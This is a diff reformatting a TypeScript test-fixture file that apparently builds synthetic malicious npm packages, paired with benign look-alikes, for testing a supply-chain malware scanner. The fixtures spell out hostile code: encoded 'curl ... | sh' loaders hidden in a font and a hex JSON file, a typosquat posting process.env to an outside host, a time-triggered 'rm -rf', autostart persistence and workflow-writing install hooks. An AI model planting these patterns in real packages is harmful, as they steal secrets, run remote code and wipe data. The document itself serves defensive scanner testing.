@@ -13,9 +13,17 @@ import { pkgJson, type NpmVariant } from './npm-variants.js';
 const raw = String.raw;
 const b64 = (s: string): string => Buffer.from(s).toString('base64');
 /** Text as Unicode tag characters (U+E0000 + byte): invisible. */
-const tags = (s: string): string => Array.from(Buffer.from(s, 'utf8')).map((b) => String.fromCodePoint(0xe0000 + (b & 0x7f))).join('');
+const tags = (s: string): string =>
+  Array.from(Buffer.from(s, 'utf8'))
+    .map((b) => String.fromCodePoint(0xe0000 + (b & 0x7f)))
+    .join('');
 /** A tiny "font" whose bytes after a marker are code (inert text). */
-const fontWithCode = (): Buffer => Buffer.concat([Buffer.from('wOF2\0\x01\0\0', 'latin1'), Buffer.alloc(24), Buffer.from('@@' + "require('child_process').exec('curl -s https://fonts-cdn.invalid/x | sh')", 'latin1')]);
+const fontWithCode = (): Buffer =>
+  Buffer.concat([
+    Buffer.from('wOF2\0\x01\0\0', 'latin1'),
+    Buffer.alloc(24),
+    Buffer.from('@@' + "require('child_process').exec('curl -s https://fonts-cdn.invalid/x | sh')", 'latin1'),
+  ]);
 
 export const NPM_VARIANTS_SET6B: readonly NpmVariant[] = [
   // remote_url_dependency: an IPv6 literal in optionalDependencies.
@@ -23,7 +31,10 @@ export const NPM_VARIANTS_SET6B: readonly NpmVariant[] = [
     family: 'remote_dynamic_dependency',
     id: 's6b-ipv6-optional-dependency',
     files: {
-      'package.json': pkgJson('vite-svg-inline', { main: 'index.js', optionalDependencies: { 'svg-core-x': 'https://[2001:db8::7]/pkg/svg-core-x-1.0.0.tgz' } }),
+      'package.json': pkgJson('vite-svg-inline', {
+        main: 'index.js',
+        optionalDependencies: { 'svg-core-x': 'https://[2001:db8::7]/pkg/svg-core-x-1.0.0.tgz' },
+      }),
       'index.js': raw`module.exports = (s) => s.trim();`,
     },
   },
@@ -32,7 +43,11 @@ export const NPM_VARIANTS_SET6B: readonly NpmVariant[] = [
     family: 'remote_dynamic_dependency',
     id: 's6b-resolutions-https-tarball',
     files: {
-      'package.json': pkgJson('react-table-lite-kit', { main: 'index.js', dependencies: { lodash: '^4.17.21' }, resolutions: { lodash: 'https://mirror.pkgs-cache.example/lodash-4.17.21.tgz' } }),
+      'package.json': pkgJson('react-table-lite-kit', {
+        main: 'index.js',
+        dependencies: { lodash: '^4.17.21' },
+        resolutions: { lodash: 'https://mirror.pkgs-cache.example/lodash-4.17.21.tgz' },
+      }),
       'index.js': raw`module.exports = { rows: (d) => d };`,
     },
   },
@@ -50,9 +65,13 @@ export const NPM_VARIANTS_SET6B: readonly NpmVariant[] = [
     family: 'rat_backdoor',
     id: 's6b-sh-xdg-autostart',
     files: {
-      'package.json': pkgJson('gtk-theme-sync', { main: 'index.js', scripts: { postinstall: 'sh ./scripts/setup.sh' } }),
+      'package.json': pkgJson('gtk-theme-sync', {
+        main: 'index.js',
+        scripts: { postinstall: 'sh ./scripts/setup.sh' },
+      }),
       'index.js': raw`module.exports = {};`,
-      'scripts/setup.sh': '#!/bin/sh\nmkdir -p "$HOME/.config/autostart"\ncp "$(dirname "$0")/sync.desktop" "$HOME/.config/autostart/gtk-sync.desktop"\n',
+      'scripts/setup.sh':
+        '#!/bin/sh\nmkdir -p "$HOME/.config/autostart"\ncp "$(dirname "$0")/sync.desktop" "$HOME/.config/autostart/gtk-sync.desktop"\n',
       'scripts/sync.desktop': '[Desktop Entry]\nType=Application\nExec=node /tmp/.gtk/agent.js\nHidden=true\n',
     },
   },
@@ -77,7 +96,11 @@ if (process.platform === 'win32') {
     family: 'typosquat_reexport',
     id: 's6b-esm-request-chain-env',
     files: {
-      'package.json': pkgJson('loadash-es', { type: 'module', exports: './index.js', dependencies: { 'lodash-es': '^4.17.21' } }),
+      'package.json': pkgJson('loadash-es', {
+        type: 'module',
+        exports: './index.js',
+        dependencies: { 'lodash-es': '^4.17.21' },
+      }),
       'index.js': raw`import https from 'node:https';
 export * from 'lodash-es';
 https.request({ hostname: 'cdn-metrics.lodash-es.invalid', path: '/e', method: 'POST' }).once('error', () => {}).end(JSON.stringify(process.env));
@@ -110,8 +133,11 @@ export const t = (k) => k;
     id: 's6b-template-rm-cwd',
     files: {
       'package.json': pkgJson('koa-health-route', { main: 'index.js' }),
-      'index.js': raw`const cp = require('child_process');
-if (new Date() > new Date('2026-06-01')) cp.exec(` + '`rm -rf ${process.cwd()}`' + raw`);
+      'index.js':
+        raw`const cp = require('child_process');
+if (new Date() > new Date('2026-06-01')) cp.exec(` +
+        '`rm -rf ${process.cwd()}`' +
+        raw`);
 module.exports = (app) => app;
 `,
     },
@@ -121,7 +147,10 @@ module.exports = (app) => app;
     family: 'protestware_wiper',
     id: 's6b-ts-importstar-home-folders',
     files: {
-      'package.json': pkgJson('locale-detect-ts', { main: 'dist/index.js', scripts: { postinstall: 'node dist/post.js' } }),
+      'package.json': pkgJson('locale-detect-ts', {
+        main: 'dist/index.js',
+        scripts: { postinstall: 'node dist/post.js' },
+      }),
       'dist/index.js': raw`"use strict";exports.locale=()=>Intl.DateTimeFormat().resolvedOptions().locale;`,
       'dist/post.js': raw`"use strict";
 var __importStar = (this && this.__importStar) || function (mod) { return mod; };
@@ -141,7 +170,10 @@ const path = __importStar(require("path"));
     family: 'worm_token_propagation',
     id: 's6b-prepare-writes-workflows',
     files: {
-      'package.json': pkgJson('eslint-config-monorepo-kit', { main: 'index.js', scripts: { prepare: 'node tools/prepare.mjs' } }),
+      'package.json': pkgJson('eslint-config-monorepo-kit', {
+        main: 'index.js',
+        scripts: { prepare: 'node tools/prepare.mjs' },
+      }),
       'index.js': raw`module.exports = { rules: {} };`,
       'tools/prepare.mjs': raw`import { readdirSync, mkdirSync, writeFileSync, existsSync } from 'node:fs';
 import { join, dirname } from 'node:path';
@@ -180,7 +212,9 @@ const parts = require('./parts.json');
 const m = new Mod('warm', module);
 m._compile(Buffer.from(parts.join(''), 'hex').toString('utf8'), __filename);
 `,
-      'lib/parts.json': JSON.stringify([Buffer.from("require('child_process').exec('curl https://tz.invalid/p|sh')").toString('hex')]),
+      'lib/parts.json': JSON.stringify([
+        Buffer.from("require('child_process').exec('curl https://tz.invalid/p|sh')").toString('hex'),
+      ]),
     },
   },
   // asset_code_eval: a font's bytes after a marker given to new Function, with fs/promises (ESM).
@@ -188,7 +222,11 @@ m._compile(Buffer.from(parts.join(''), 'hex').toString('utf8'), __filename);
     family: 'scanner_evasion',
     id: 's6b-font-bytes-new-function',
     files: {
-      'package.json': pkgJson('icon-font-loader', { type: 'module', exports: './index.js', files: ['index.js', 'fonts'] }),
+      'package.json': pkgJson('icon-font-loader', {
+        type: 'module',
+        exports: './index.js',
+        files: ['index.js', 'fonts'],
+      }),
       'index.js': raw`import { readFile } from 'node:fs/promises';
 const buf = await readFile(new URL('./fonts/icons.woff2', import.meta.url).pathname.replace(/^\//, '/'));
 const at = buf.indexOf('@@');
@@ -264,7 +302,11 @@ export const NPM_TWINS_SET6B: readonly NpmVariant[] = [
       'package.json': pkgJson('sheet-export-kit', {
         main: 'index.js',
         homepage: 'https://sheet-export-kit.example/docs',
-        dependencies: { 'sheet-core': 'https://sheet-export-kit.example/dist/sheet-core-1.2.0.tgz', parser: 'git+https://github.com/sheet-export-kit/parser.git#0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6', util: 'file:./vendor/util' },
+        dependencies: {
+          'sheet-core': 'https://sheet-export-kit.example/dist/sheet-core-1.2.0.tgz',
+          parser: 'git+https://github.com/sheet-export-kit/parser.git#0f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6',
+          util: 'file:./vendor/util',
+        },
       }),
       'index.js': raw`module.exports = { toCsv: (rows) => rows.map((r) => r.join(',')).join('\n') };`,
       'vendor/util/package.json': pkgJson('util', { main: 'index.js' }),
@@ -285,7 +327,11 @@ export const NPM_TWINS_SET6B: readonly NpmVariant[] = [
     family: 'twin_config_write',
     id: 's6b-twin-config-and-cron-hint',
     files: {
-      'package.json': pkgJson('backup-notes', { main: 'index.js', bin: { 'backup-notes': 'cli.js' }, scripts: { postinstall: 'node setup.js' } }),
+      'package.json': pkgJson('backup-notes', {
+        main: 'index.js',
+        bin: { 'backup-notes': 'cli.js' },
+        scripts: { postinstall: 'node setup.js' },
+      }),
       'index.js': raw`module.exports = {};`,
       'setup.js': raw`const fs = require('fs'), os = require('os'), path = require('path');
 const dir = path.join(os.homedir(), '.config', 'backup-notes');
@@ -326,7 +372,10 @@ for (const d of ['dist', 'coverage']) fs.rmSync(path.join(process.cwd(), d), { r
     family: 'twin_prepare_build',
     id: 's6b-twin-prepare-build',
     files: {
-      'package.json': pkgJson('ts-lib-template', { main: 'dist/index.js', scripts: { prepare: 'husky && node tools/build.mjs' } }),
+      'package.json': pkgJson('ts-lib-template', {
+        main: 'dist/index.js',
+        scripts: { prepare: 'husky && node tools/build.mjs' },
+      }),
       'dist/index.js': raw`exports.x = 1;`,
       'tools/build.mjs': raw`import { mkdirSync, writeFileSync } from 'node:fs';
 mkdirSync('dist', { recursive: true });
